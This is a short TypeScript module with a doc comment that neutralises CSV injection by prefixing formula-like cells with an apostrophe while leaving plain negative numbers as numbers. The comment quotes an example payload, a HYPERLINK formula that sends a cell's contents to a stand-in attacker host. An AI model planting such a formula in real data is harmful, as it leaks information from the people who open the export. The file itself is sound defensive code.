/**
 * The one rule every CSV export keeps: a cell is never a formula. Spreadsheets run a cell that
 * starts with `=`, `+`, `-` or `@` (and some strip a leading tab or carriage return first), so a
 * name like `=HYPERLINK("http://evil.example?"&A1)` typed into a form would run on the office
 * computer that opens the export. Such a cell is written with a leading `'`, which makes it text.
 *
 * A plain negative number (`-1200`, `-1,200.5`: a point deduction, a refund) is not a formula and
 * stays a number, so totals still add up.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NEGATIVE_NUMBER = /^-(?:\d{1,3}(?:,\d{3})+|\d+)(?:\.\d+)?$/;

export function csvCell(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NEGATIVE_NUMBER.test(value) ? `'${value}` : value;
}
